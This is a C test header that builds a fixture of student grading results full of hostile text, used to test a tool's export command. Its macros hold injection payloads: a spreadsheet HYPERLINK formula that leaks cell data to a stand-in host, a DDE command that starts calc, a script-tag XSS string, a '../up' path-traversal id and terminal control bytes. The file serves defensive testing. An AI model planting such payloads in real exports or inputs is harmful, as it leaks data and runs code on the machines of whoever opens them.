/*
 * exported.h - a small class full of hostile text, and its results
 *
 * For the tests of `shmlab export`; each includes it once.  Who is who:
 *
 *     ann   passes both
 *     bob   fails one, hangs in the other; everything of his is hostile
 *     cid   passes one; the other could not be decided
 *     dee   the grader failed; the other cannot be judged here
 *     eve   is on the roster, and has handed in nothing
 *     fay   one does not compile; the other was not handed in
 *     ../up one is not judged yet
 */
#ifndef TESTS_LAB_EXPORTED_H
#define TESTS_LAB_EXPORTED_H

#include "hostile.h"

#include "grade/class.h"
#include "grade/result.h"

#include <jansson.h>

#define FORMULA "=HYPERLINK(\"http://e.vil/?\"&A1,\"x\")"
#define DDE     "+cmd|' /C calc'!A0"
#define MARKUP  "<script>alert('x')</script>&amp;]]>-->"
#define UGLY \
    FORMULA ";" DDE "\n-2+3\t@SUM(1)\r\n" MARKUP "\x1b[2J\x01\x7f\xe2\x80\xae"

enum {
    LONG = 100 * 1024,
    EXPORT_ARGUMENTS = 12
};

static const char *const exercises[] = {"06_fork_workers", "07_lifetime_tidy"};

/* --- Making it ------------------------------------------------------------ */

static inline json_t *made(json_t *value)
{
    if (value == NULL)
        errx(REPORT_UNTESTED, "a result could not be made");
    return value;
}

static inline void write_json(const char *below, json_t *value)
{
    if (json_dump_file(value, hostile_file(below), JSON_INDENT(1)) == -1)
        errx(REPORT_UNTESTED, "%s", below);
    json_decref(value);
}

/* A hostile text of 100 kB. */
static inline const char *long_text(void)
{
    static char text[LONG + sizeof UGLY];
    for (size_t at = 0; at < LONG; at += sizeof UGLY - 1)
        memcpy(text + at, UGLY, sizeof UGLY);
    return text;
}

/* One check. */
static inline json_t *test_of(const char *name, const char *status, int points,
                              const char *text, const char *visibility)
{
    return made(json_pack("{s:s, s:s, s:s, s:[i,i], s:s, s:s, s:[s], s:s}",
                          "id", "x.t1", "name", name, "status", status,
                          "points", points, 50, "expected", text, "observed",
                          text, "messages", text, "visibility", visibility));
}

/* A result; `tests` is taken.  A score of -1 is null. */
static inline void result_write(const char *key, const char *exercise,
                                const char *verdict, const char *text,
                                int score, json_t *tests)
{
    char below[200];
    json_t *all = made(json_pack(
        "{s:s, s:s, s:s, s:s, s:s, s:s, s:s, s:i, s:o, s:[{s:s, s:s, s:s, s:s, "
        "s:[s], s:s}], s:s, s:s, s:s, s:s, s:s, s:b, s:{s:s, s:i, s:i, s:i, "
        "s:s}}",
        "schema", "1.0", "key", key, "exercise", exercise, "submission",
        "sha256:00ff", "verdict", verdict, "reason", text, "status", "fail",
        "max", 100, "tests", tests, "diagnoses", "id", "L2", "confidence",
        "certain", "message", text, "see", "07_lifetime", "evidence", text,
        "when", "", "compiler", text, "seed", "18446744073709551615", "checks",
        "sha256:00", "toolchain", "cc", "level", "L2", "recorded", 1, "run",
        "began", "2026-01-02T03:04:05Z", "wall_ms", 1234, "cpu_ms", 1, "tries",
        1, "host", text));
    json_object_set_new(all, "score",
                        score >= 0 ? json_integer(score) : json_null());
    snprintf(below, sizeof below, "results/units/%s.json", key);
    write_json(below, all);
}

static inline json_t *two(json_t *first, json_t *second)
{
    return made(json_pack("[o, o]", made(first), made(second)));
}

static inline void make_units(void)
{
    const char *const *x = exercises;
    result_write("a1", x[0], "pass", "", 100,
                 two(test_of("it adds", "pass", 50, "", "visible"),
                     test_of("it is tidy", "pass", 50, "", "visible")));
    result_write("a2", x[1], "pass", "", 100,
                 two(test_of("it tidies", "pass", 50, "", "visible"),
                     test_of("it ends", "pass", 50, "", "hidden")));
    result_write("b1", x[0], "fail", UGLY, 50,
                 two(test_of("a secret check", "fail", 0, UGLY, "hidden"),
                     test_of(UGLY, "pass", 50, UGLY, "visible")));
    result_write("b2", x[1], "hang", long_text(), 0,
                 two(test_of(long_text(), "fail", 0, long_text(), "visible"),
                     test_of(FORMULA, "fail", 0, FORMULA, "after_due_date")));
    result_write("c1", x[0], "pass", "", 100,
                 two(test_of("it adds", "pass", 50, "", "visible"),
                     test_of("it is tidy", "pass", 50, "", "visible")));
    result_write("c2", x[1], "undecided", "its runs differ", 50,
                 two(test_of("it tidies", "pass", 50, "", "visible"),
                     test_of("it ends", "undecided", 0, "", "visible")));
    result_write("d1", x[0], "error", "no memory", -1, made(json_array()));
    result_write("d2", x[1], "not-here", "no namespaces", -1,
                 two(test_of("it tidies", "skipped", 0, "", "visible"),
                     test_of("it ends", "pass", 50, "", "visible")));
    result_write("f1", x[0], "not-built", "", 0, made(json_array()));
}

static inline void add_student(struct class *class, const char *id,
                               const char *name, const char *email,
                               const char *login, const char *number,
                               const char *first, const char *second)
{
    struct student *student = class_student(class, id);
    const char *const from[] = {name, email, login, number};
    char **const to[] = {&student->name, &student->email, &student->login,
                         &student->number};
    for (size_t i = 0; i < COUNT(from); i++) {
        free(*to[i]);
        *to[i] = strdup(from[i]);
    }
    student->listed = true;
    if (first != NULL)
        student_answers(student, exercises[0], FORMULA ".c", first);
    if (second != NULL)
        student_answers(student, exercises[1], MARKUP ".c", second);
}

/* The first of the tests, after hostile_begin(). */
static inline void exported_begin(void)
{
    struct class class = {0};
    if (mkdir(hostile_file("results"), 0755) == -1 ||
        mkdir(hostile_file("results/units"), 0755) == -1)
        err(REPORT_UNTESTED, "results");
    make_units();
    class.exercises = calloc(COUNT(exercises), sizeof *class.exercises);
    for (size_t i = 0; i < COUNT(exercises); i++)
        class.exercises[class.exercise_count++] = strdup(exercises[i]);
    add_student(&class, "ann", "Ann M\xc3\xbcller", "ann@x.edu", "ann", "1001",
                "a1", "a2");
    add_student(&class, FORMULA, DDE, "@bob,\"x\"", "-bob", "-5", "b1", "b2");
    student_refused(class_student(&class, FORMULA), UGLY, MARKUP);
    add_student(&class, "cid", "Cid", "cid@x.edu", "cid", "1003", "c1", "c2");
    add_student(&class, "dee", "Dee", "dee@x.edu", "dee", "1004", "d1", "d2");
    add_student(&class, "eve", "Eve", "eve@x.edu", "eve", "1005", NULL, NULL);
    add_student(&class, "fay", "Fay", "", "", "", "f1", NULL);
    add_student(&class, "../up", "Up", "up@x.edu", "up", "1007", "", NULL);
    if (class_write(&class, hostile_file("results/class.json")) == -1)
        err(REPORT_UNTESTED, "class.json");
    class_free(&class);
}

/* --- Running it ----------------------------------------------------------- */

static inline bool run_argv(struct recording *seen, const char *const argv[],
                            enum run_stdout stdout_to)
{
    struct run_problem problem;
    const struct run_request request = {
        .argv = argv,
        .callers_folder = true,
        .shared_ipc = true,
        .deadline_ms = 120000,
        .output_max = 16 << 20,
        .stdout_to = stdout_to,
    };
    if (run(&request, seen, &problem) == 0)
        return true;
    report_untested("%s: %s: %s", argv[0], problem.step,
                    strerror(problem.error));
    return false;
}

/* Run `shmlab export FORMAT --results RESULTS ...`, and demand a status. */
static inline bool export_run(struct recording *seen, int status,
                              const char *format, const char *const arguments[])
{
    const char *argv[EXPORT_ARGUMENTS + 6] = {hostile_shmlab(), "export",
                                              format, "--results",
                                              hostile_file("results")};
    for (size_t i = 0; i < EXPORT_ARGUMENTS && arguments[i] != NULL; i++)
        argv[5 + i] = arguments[i];
    if (!run_argv(seen, argv, RUN_TO_PIPE))
        return false;
    EXPECT(recording_exited(seen, status), "%s: status %d, signal %d: %s",
           format, seen->status, seen->signo, seen->err.text);
    return true;
}

/* The last argument is NULL. */
#define EXPORT(seen, status, format, ...) \
    export_run((seen), (status), (format), (const char *const[]){__VA_ARGS__})

/* The text of a file, to be freed; "" when there is none. */
static inline char *text_of(const char *path)
{
    char *text = NULL;
    size_t room = 0;
    FILE *file = fopen(path, "re");
    if (file == NULL || getdelim(&text, &room, '\0', file) == -1) {
        free(text);
        text = strdup("");
    }
    if (file != NULL)
        fclose(file);
    return text;
}

static inline void write_text(const char *path, const char *text)
{
    FILE *file = fopen(path, "we");
    if (file == NULL || fputs(text, file) == EOF || fclose(file) == EOF)
        err(REPORT_UNTESTED, "%s", path);
}

static inline void expect_told(const struct recording *seen, const char *part)
{
    EXPECT(strstr(seen->err.text, part) != NULL, "does not tell \"%s\" in:\n%s",
           part, seen->err.text);
}

#endif
